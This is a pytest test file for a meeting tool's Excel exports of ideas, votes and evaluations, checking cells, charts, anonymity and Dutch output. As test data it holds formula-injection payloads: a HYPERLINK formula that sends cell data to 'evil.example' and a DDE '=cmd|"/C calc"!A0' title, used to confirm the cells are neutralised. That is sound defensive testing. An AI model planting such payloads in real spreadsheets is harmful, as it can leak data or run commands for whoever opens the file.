"""The step workbooks of the ideas, vote and evaluation steps, built from a real trajectory stored in the
database (SQLite, and PostgreSQL when configured) and reopened with openpyxl: cells, neutralised formulas,
no names from anonymous steps, the native chart, Dutch when the trajectory is in Dutch."""

from __future__ import annotations

import threading
from datetime import UTC, datetime, timedelta
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart

from cards.texts import speaking
from outputs import evaluation as evaluation_output
from outputs import ideas as ideas_output
from outputs import vote as vote_output
from outputs.registry import STEP_OUTPUTS
from storage.unit_of_work import SqlUnitOfWork
from trajectory import clarification_services, evaluation_service, services, vote_service
from trajectory import engine as transitions
from trajectory.files import XLSX
from trajectory.model import ChannelRef, Person, Step, Trajectory
from trajectory.setup import StepDraft, edit_draft, new_trajectory

NOW = datetime(2025, 3, 1, 9, 30, tzinfo=UTC)
ANN = Person(aad_id="aad-ann", name="Annelies Vermeulen", user_id="29:ann")
BOB = Person(aad_id="aad-bob", name="Bob Janssens", user_id="29:bob")
CAT = Person(aad_id="aad-cat", name="Cato Peeters", user_id="29:cat")
DAN = Person(aad_id="aad-dan", name="Dirk De Smet", user_id="29:dan")
EVERYONE = (ANN, BOB, CAT, DAN)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open me")'


@pytest.fixture
def uows(sessions):
    return lambda: SqlUnitOfWork(sessions)


def _channel(n: int = 1) -> ChannelRef:
    return ChannelRef(tenant_id="tenant-1", team_id="19:team@thread.tacv2", channel_id=f"19:chan{n}@thread.tacv2")


async def _draft(uows, steps: list[StepDraft], language: str = "en", channel: int = 1) -> Trajectory:
    trajectory = new_trajectory(_channel(channel), ANN, "Better meetings", NOW)
    edit_draft(trajectory, title="Better meetings", question="How do we meet better?", steps=steps,
               co_facilitators=[], now=NOW, settings={"language": language, "time_zone": "Europe/Brussels"})
    async with uows() as uow:
        await uow.trajectories.add(trajectory)
        transitions.start(trajectory, NOW)
        await uow.trajectories.save(trajectory)
        await uow.commit()
    return trajectory


async def _advance(uows, trajectory: Trajectory, at: datetime) -> None:
    async with uows() as uow:
        transitions.advance(trajectory, at)
        await uow.trajectories.save(trajectory)
        opened = trajectory.current_step
        if opened is not None and opened.kind == "vote":
            await vote_service.freeze_options(uow, trajectory, opened, at)
        await uow.commit()


async def reference(uows, language: str = "en") -> dict[str, Any]:
    """Ideas (one merged, one hostile, questions and an anonymous comment) → a dot vote with a tie for the
    top → the default evaluation; every step closed."""
    trajectory = await _draft(uows, [StepDraft(kind="ideas", title="Collect ideas"),
                                     StepDraft(kind="vote", title="Prioritise", settings={"dots": 5}),
                                     StepDraft(kind="evaluation", title="Evaluate")], language)
    ideas_step, vote_step, evaluation_step = trajectory.steps
    async with uows() as uow:
        walk = await services.add_idea(uow, ideas_step.id, ANN, "Walk meetings", NOW)
        evil = await services.add_idea(uow, ideas_step.id, BOB, HYPERLINK, NOW + timedelta(minutes=1))
        dup = await services.add_idea(uow, ideas_step.id, CAT, "Walking meetings", NOW + timedelta(minutes=2))
        mention = await services.add_idea(uow, ideas_step.id, DAN, "@mention everyone", NOW + timedelta(minutes=3))
        question, _ = await clarification_services.ask(uow, walk.id, BOB, "question", "How long?", False,
                                                       NOW + timedelta(minutes=4))
        await clarification_services.ask(uow, mention.id, CAT, "comment", "+1 from me", True,
                                         NOW + timedelta(minutes=5))
        await uow.commit()
    async with uows() as uow:
        await clarification_services.answer(uow, question.id, question.version, ANN, "-30 minutes at most",
                                            NOW + timedelta(minutes=6))
        await clarification_services.merge(uow, dup.id, dup.version, walk.id, ANN, NOW + timedelta(minutes=7))
        await uow.commit()
    await _advance(uows, trajectory, NOW + timedelta(days=1))
    async with uows() as uow:
        options = {o.idea_id: o.id for o in await uow.votes.options(vote_step.id)}
        at = NOW + timedelta(days=1, hours=1)
        for voter, choices in ((ANN, {walk.id: 3, evil.id: 2}), (BOB, {mention.id: 3, walk.id: 2}),
                               (CAT, {mention.id: 2, evil.id: 1})):
            await vote_service.submit_ballot(uow, vote_step.id, 0, voter,
                                             {options[i]: v for i, v in choices.items()}, {}, at)
        await uow.commit()
    await _advance(uows, trajectory, NOW + timedelta(days=2))
    async with uows() as uow:
        at = NOW + timedelta(days=2, hours=1)
        for person, answers in (
            (ANN, {"async_helped": 5, "live_prepared": 4, "understood": 4, "recommend": 10, "keep": "=cmd keep",
                   "change": "Fewer meetings"}),
            (BOB, {"async_helped": 4, "recommend": 6, "keep": "Walks"}),
            (CAT, {"async_helped": 3, "recommend": 9}),
        ):
            await evaluation_service.submit_answers(uow, evaluation_step.id, 0, person, answers, at)
        await uow.commit()
    await _advance(uows, trajectory, NOW + timedelta(days=3))
    return {"trajectory": trajectory, "ideas": ideas_step, "vote": vote_step, "evaluation": evaluation_step,
            "walk": walk, "mention": mention}


async def produce(uows, module, trajectory: Trajectory, step: Step):
    async with uows() as uow:
        with speaking(trajectory.language):
            return await module.document(uow, trajectory, step), await module.summary(uow, trajectory, step)


def reopen(content: bytes):
    return load_workbook(BytesIO(content))


def values(sheet) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def every_string(book) -> list[str]:
    return [value for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
            for value in row if isinstance(value, str)]


def assert_no_formulas(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.lstrip(" \t\r\n\u00a0")[:1] in ("=", "+", "-", "@"), c.value


# ---------------------------------------------------------------- ideas


async def test_ideas_workbook_lists_ideas_merges_questions_and_answers(uows):
    made = await reference(uows)
    trajectory = made["trajectory"]
    document, summary = await produce(uows, ideas_output, trajectory, made["ideas"])
    assert document.name == "01 Collect ideas.xlsx" and document.content_type == XLSX
    book = reopen(document.content)
    assert book.sheetnames == ["Ideas", "Questions and comments", "About"]
    ideas = book["Ideas"]
    assert ideas.freeze_panes == "A2" and ideas["A1"].font.b
    assert values(ideas) == [
        ["No.", "Idea", "Author", "Added", "Merged into no.", "Questions and comments"],
        [1, "Walk meetings", ANN.name, "1 Mar 2025, 10:30", None, 1],  # Brussels time
        [None, "Walking meetings", CAT.name, "1 Mar 2025, 10:32", 1, None],
        [2, "'" + HYPERLINK, BOB.name, "1 Mar 2025, 10:31", None, 0],
        [3, "'@mention everyone", DAN.name, "1 Mar 2025, 10:33", None, 1],
    ]
    assert values(book["Questions and comments"]) == [
        ["No.", "About the idea", "Kind", "Question or comment", "Asked by", "Asked", "Answer", "Answered"],
        [1, "Walk meetings", "Question", "How long?", BOB.name, "1 Mar 2025, 10:34", "'-30 minutes at most",
         "1 Mar 2025, 10:36"],
        [3, "'@mention everyone", "Comment", "'+1 from me", "Anonymous", "1 Mar 2025, 10:35", None, None],
    ]
    assert CAT.name not in [row[4] for row in values(book["Questions and comments"])]  # asked anonymously
    about = dict((row[0], row[1]) for row in values(book["About"])[1:])
    assert about["Trajectory"] == "Better meetings" and about["Step"] == "1. Collect ideas"
    assert_no_formulas(book)
    assert summary.headline == "3 ideas from 4 people"
    assert summary.lines == ("1 duplicate was merged into another idea.", "Questions and comments: 2; answered: 1.")
    assert summary.chart is None


async def test_an_anonymous_ideas_step_puts_no_name_in_its_workbook(uows):
    made = await reference(uows)
    step = made["ideas"]
    step.settings = {**step.settings, "anonymous": True}
    document, _ = await produce(uows, ideas_output, made["trajectory"], step)
    book = reopen(document.content)
    text = " ".join(every_string(book))
    assert "Walk meetings" in text
    for person in EVERYONE:
        assert person.name not in text and person.name.split()[0] not in text
    assert values(book["Ideas"])[0] == ["No.", "Idea", "Added", "Merged into no.", "Questions and comments"]


async def test_an_ideas_step_without_ideas(uows):
    trajectory = await _draft(uows, [StepDraft(kind="ideas", title="Collect ideas")])
    await _advance(uows, trajectory, NOW + timedelta(hours=1))
    document, summary = await produce(uows, ideas_output, trajectory, trajectory.steps[0])
    book = reopen(document.content)
    assert len(values(book["Ideas"])) == 1 and len(values(book["Questions and comments"])) == 1
    assert summary.headline == "No ideas were added."


# ---------------------------------------------------------------- vote


async def test_vote_workbook_ranks_with_ties_details_and_a_native_chart(uows):
    made = await reference(uows)
    document, summary = await produce(uows, vote_output, made["trajectory"], made["vote"])
    assert document.name == "02 Prioritise.xlsx"
    book = reopen(document.content)
    assert book.sheetnames == ["Ranking", "Detail", "About"]  # anonymous: no ballots sheet
    ranking = book["Ranking"]
    assert values(ranking) == [
        ["Rank", "Tie", "Option", "Dots", "Ballots"],
        [1, "tied", "Walk meetings", 5, 2],
        [1, "tied", "'@mention everyone", 5, 2],
        [3, None, "'" + HYPERLINK, 3, 2],
    ]
    charts = ranking._charts
    assert len(charts) == 1 and isinstance(charts[0], BarChart) and charts[0].type == "bar"
    series = charts[0].series[0]
    assert series.val.numRef.f == "'Ranking'!$D$2:$D$4"
    assert series.cat.strRef.f == "'Ranking'!$C$2:$C$4"
    assert series.tx.strRef.f == "'Ranking'!D1"  # the series is named by its column's header
    assert not charts[0].x_axis.delete and not charts[0].y_axis.delete
    assert values(book["Detail"]) == [
        ["Option", "Ballots giving 1", "Ballots giving 2", "Ballots giving 3", "% of voters"],
        ["Walk meetings", 0, 1, 1, 66.7],
        ["'@mention everyone", 0, 1, 1, 66.7],
        ["'" + HYPERLINK, 1, 1, 0, 66.7],
    ]
    text = " ".join(every_string(book))
    for person in EVERYONE:
        assert person.name not in text
    assert_no_formulas(book)
    assert summary.headline == "Tied for top priority: Walk meetings and @mention everyone (5 dots each)"
    assert summary.lines[0] == "Dot voting; 3 people voted."
    assert summary.lines[1:] == ("1. Walk meetings — 5 dots (tied)", "1. @mention everyone — 5 dots (tied)",
                                 f"3. {HYPERLINK} — 3 dots")
    assert summary.chart is not None
    assert summary.chart.values == (5.0, 5.0, 3.0)
    assert summary.chart.labels[:2] == ("Walk meetings", "@mention everyone")


async def _typed_vote(uows, settings: dict[str, Any], ballots: list[tuple[Person, dict[int, Any]]],
                      language: str = "en", title: str = "Choose"):
    trajectory = await _draft(uows, [StepDraft(kind="vote", title=title, settings={
        "options": "Coffee\nTea\nWater", **settings})], language)
    step = trajectory.steps[0]
    async with uows() as uow:
        await vote_service.freeze_options(uow, trajectory, step, NOW)
        await uow.commit()
    async with uows() as uow:
        ids = [o.id for o in await uow.votes.options(step.id)]
        rank = settings.get("method") == "rank"
        for voter, choices in ballots:
            by_option = {} if rank else {ids[i]: v for i, v in choices.items()}
            by_place = {place: ids[i] for place, i in choices.items()} if rank else {}
            await vote_service.submit_ballot(uow, step.id, 0, voter, by_option, by_place, NOW)
        await uow.commit()
    await _advance(uows, trajectory, NOW + timedelta(hours=1))
    return trajectory, step


async def test_a_named_vote_lists_each_ballot(uows):
    trajectory, step = await _typed_vote(uows, {"anonymous": False, "dots": 3},
                                         [(BOB, {0: 2, 1: 1}), (ANN, {2: 3})])
    document, _ = await produce(uows, vote_output, trajectory, step)
    book = reopen(document.content)
    assert book.sheetnames == ["Ranking", "Detail", "Ballots", "About"]
    assert values(book["Ballots"]) == [["Voter", "1. Coffee", "2. Tea", "3. Water"],
                                       [ANN.name, None, None, 3], [BOB.name, 2, 1, None]]


async def test_ranking_detail_counts_places_and_borda_points(uows):
    trajectory, step = await _typed_vote(uows, {"method": "rank", "top_k": 2},
                                         [(ANN, {1: 1, 2: 0}), (BOB, {1: 1, 2: 2}), (CAT, {1: 2, 2: 1})])
    document, summary = await produce(uows, vote_output, trajectory, step)
    book = reopen(document.content)
    assert values(book["Ranking"]) == [["Rank", "Tie", "Option", "Borda points", "Ballots"],
                                       [1, None, "Tea", 5, 3], [2, None, "Water", 3, 2],
                                       [3, None, "Coffee", 1, 1]]
    assert values(book["Detail"])[0] == ["Option", "Ranked 1", "Ranked 2", "% of voters"]
    assert values(book["Detail"])[1] == ["Tea", 2, 1, 100]
    assert summary.headline == "Top priority: Tea (5 points)"
    for person in EVERYONE:
        assert person.name not in " ".join(every_string(book))


async def test_scores_rank_by_average_with_the_sum_beside_it(uows):
    trajectory, step = await _typed_vote(uows, {"method": "score"},
                                         [(ANN, {0: 5, 1: 2}), (BOB, {0: 4, 1: 3})])
    document, summary = await produce(uows, vote_output, trajectory, step)
    book = reopen(document.content)
    assert values(book["Ranking"]) == [["Rank", "Tie", "Option", "Average score", "Sum of scores", "Ballots"],
                                       [1, None, "Coffee", 4.5, 9, 2], [2, None, "Tea", 2.5, 5, 2],
                                       [3, None, "Water", None, 0, 0]]  # nobody scored it
    assert values(book["Detail"])[0] == ["Option", "Scored 1", "Scored 2", "Scored 3", "Scored 4", "Scored 5",
                                         "% of voters"]
    assert summary.headline == "Top priority: Coffee (average 4.5)"
    assert book["Ranking"]._charts[0].series[0].val.numRef.f == "'Ranking'!$D$2:$D$4"


async def test_a_vote_nobody_voted_in(uows):
    trajectory, step = await _typed_vote(uows, {"method": "approval"}, [])
    document, summary = await produce(uows, vote_output, trajectory, step)
    book = reopen(document.content)
    assert [row[2] for row in values(book["Ranking"])[1:]] == ["Coffee", "Tea", "Water"]
    assert book["Ranking"]._charts == []
    assert summary.headline == "Nobody voted." and summary.chart is None


# ---------------------------------------------------------------- evaluation


async def test_evaluation_workbook_has_distributions_averages_nps_and_open_answers_without_names(uows):
    made = await reference(uows)
    document, summary = await produce(uows, evaluation_output, made["trajectory"], made["evaluation"])
    assert document.name == "03 Evaluate.xlsx"
    book = reopen(document.content)
    assert book.sheetnames == ["Statements", "NPS", "Open answers", "About"]
    statements = values(book["Statements"])
    assert statements[0] == ["Statement", "1 – Strongly disagree", "2 – Disagree", "3 – Neither agree nor disagree",
                             "4 – Agree", "5 – Strongly agree", "Answers", "Average (1–5)"]
    assert statements[1] == ["The async steps helped me contribute.", 0, 0, 1, 1, 1, 3, 4.0]
    assert statements[2] == ["The live moments were well prepared.", 0, 0, 0, 1, 0, 1, 4.0]
    chart = book["Statements"]._charts[0]
    assert chart.series[0].val.numRef.f == "'Statements'!$H$2:$H$4"
    assert values(book["NPS"]) == [
        ["Question", "Promoters (9–10)", "Passives (7–8)", "Detractors (0–6)", "Answers", "NPS (−100 to 100)",
         *(f"Gave {n}" for n in range(11))],
        ["How likely are you to recommend this way of working to a colleague?", 2, 0, 1, 3, 33,
         0, 0, 0, 0, 0, 0, 1, 0, 0, 1, 1],
    ]
    assert values(book["Open answers"]) == [
        ["Question", "Answer"],
        ["What should we keep?", "'=cmd keep"],
        ["What should we keep?", "Walks"],
        ["What should we change?", "Fewer meetings"],
    ]
    text = " ".join(every_string(book))
    for person in EVERYONE:
        assert person.name not in text
    assert_no_formulas(book)
    assert summary.headline == "NPS +33, answers from 3 people"
    assert "The async steps helped me contribute.: 4 of 5" in summary.lines
    assert summary.chart is not None and summary.chart.values == (4.0, 4.0, 4.0)


async def test_a_named_evaluation_shows_who_wrote_each_open_answer(uows):
    questions = [{"id": "keep", "type": "text", "text": "What should we keep?"}]
    trajectory = await _draft(uows, [StepDraft(kind="evaluation", title="Evaluate",
                                               settings={"questions": questions, "anonymous": False})])
    step = trajectory.steps[0]
    async with uows() as uow:
        await evaluation_service.submit_answers(uow, step.id, 0, BOB, {"keep": "Walks"}, NOW)
        await uow.commit()
    await _advance(uows, trajectory, NOW + timedelta(hours=1))
    document, summary = await produce(uows, evaluation_output, trajectory, step)
    book = reopen(document.content)
    assert book.sheetnames == ["Open answers", "About"]
    assert values(book["Open answers"]) == [["Question", "Answer", "Name"], ["What should we keep?", "Walks", BOB.name]]
    assert summary.headline == "Answers from 1 person." and summary.chart is None


# ---------------------------------------------------------------- language and the table


async def test_workbooks_are_built_off_the_event_loop_in_the_trajectorys_language(uows, monkeypatch):
    # openpyxl takes seconds of CPU at 10,000 ideas: on the loop's thread every click would wait.
    from outputs import workbook

    built: list[tuple[bool, str]] = []
    file = workbook.Book.file

    def spying(self, stem):
        from cards.texts import current_language

        built.append((threading.current_thread() is threading.main_thread(), current_language()))
        return file(self, stem)

    monkeypatch.setattr(workbook.Book, "file", spying)
    made = await reference(uows, language="nl")
    for module, step in ((ideas_output, "ideas"), (vote_output, "vote"), (evaluation_output, "evaluation")):
        await produce(uows, module, made["trajectory"], made[step])
    assert built == [(False, "nl")] * 3


async def test_files_are_in_dutch_for_a_dutch_trajectory(uows):
    made = await reference(uows, language="nl")
    trajectory = made["trajectory"]
    ideas_file, ideas_summary = await produce(uows, ideas_output, trajectory, made["ideas"])
    book = reopen(ideas_file.content)
    assert book.sheetnames == ["Ideeën", "Vragen en opmerkingen", "Over"]
    assert values(book["Ideeën"])[0] == ["Nr.", "Idee", "Auteur", "Toegevoegd", "Samengevoegd met nr.",
                                         "Vragen en opmerkingen"]
    assert values(book["Ideeën"])[1][3] == "1 mrt. 2025 10:30"
    assert ideas_summary.headline == "3 ideeën van 4 personen"
    vote_file, vote_summary = await produce(uows, vote_output, trajectory, made["vote"])
    assert reopen(vote_file.content).sheetnames == ["Rangschikking", "Detail", "Over"]
    assert vote_summary.headline.startswith("Samen hoogste prioriteit: Walk meetings en @mention everyone")
    evaluation_file, _ = await produce(uows, evaluation_output, trajectory, made["evaluation"])
    assert values(reopen(evaluation_file.content)["Stellingen"])[0][0] == "Stelling"


def test_every_async_kind_has_a_step_output():
    # The meeting and workshop rows are the meeting outputs' (outputs/meeting.py): their test extends this
    # to the whole of trajectory.kinds.STEP_KINDS.
    for kind in ("ideas", "vote", "evaluation"):
        assert kind in STEP_OUTPUTS
        assert callable(STEP_OUTPUTS[kind].document) and callable(STEP_OUTPUTS[kind].summary)


async def test_hostile_titles_make_a_safe_file_name_and_inert_cells(uows):
    trajectory, step = await _typed_vote(uows, {"options": "=1+1\n@cmd\n-2"}, [(ANN, {0: 5})],
                                         title='=cmd|"/C calc"!A0: CON? ')
    document, _ = await produce(uows, vote_output, trajectory, step)
    assert document.name == "01 =cmd C calc !A0 CON.xlsx"
    book = reopen(document.content)
    assert_no_formulas(book)
    about = dict((row[0], row[1]) for row in values(book["About"])[1:])
    assert about["Step"] == '1. =cmd|"/C calc"!A0: CON?'
    assert [row[2] for row in values(book["Ranking"])[1:]] == ["'=1+1", "'@cmd", "'-2"]


async def test_a_file_and_its_summary_read_a_few_statements_whatever_the_size(uows, engine):
    """No N+1: each kind reads its rows in a few set-based queries, once for its file and its summary."""
    from tests.bench.test_statements import StatementCounter

    from trajectory.kinds.ideas import Idea

    made = await reference(uows)
    trajectory = made["trajectory"]

    async def statements() -> dict[str, int]:
        found = {}
        for module, step in ((ideas_output, made["ideas"]), (vote_output, made["vote"]),
                             (evaluation_output, made["evaluation"])):
            with StatementCounter(engine) as counter:
                await produce(uows, module, trajectory, step)
            found[step.kind] = counter.statements.count("SELECT")
        return found

    few = await statements()
    async with uows() as uow:
        for i in range(30):
            await uow.ideas.add(Idea(step_id=made["ideas"].id, author=EVERYONE[i % 4], text=f"More {i}",
                                     created_at=NOW, updated_at=NOW))
        await uow.commit()
    assert await statements() == few
    assert few == {"ideas": 2, "vote": 3, "evaluation": 1}
